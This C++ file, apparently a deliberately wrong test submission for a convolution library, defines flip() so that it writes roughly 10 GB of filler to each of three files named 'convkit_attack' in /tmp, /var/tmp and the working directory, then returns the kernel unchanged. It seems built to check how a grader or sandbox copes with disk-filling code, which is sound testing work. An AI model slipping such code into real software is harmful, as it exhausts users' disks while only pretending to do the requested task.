// wrong: a disk that is to be filled

#include <fstream>
#include <string>

#include "conv_formula.hpp"

namespace convkit {

Plane<double> flip(const Plane<double>& kernel) {
    for (const char* name : {"/tmp/convkit_attack", "/var/tmp/convkit_attack", "convkit_attack"}) {
        std::ofstream stream(name);
        for (int i = 0; stream && i < 100'000; ++i) stream << std::string(100'000, 'x');
    }
    return kernel;
}

}  // namespace convkit
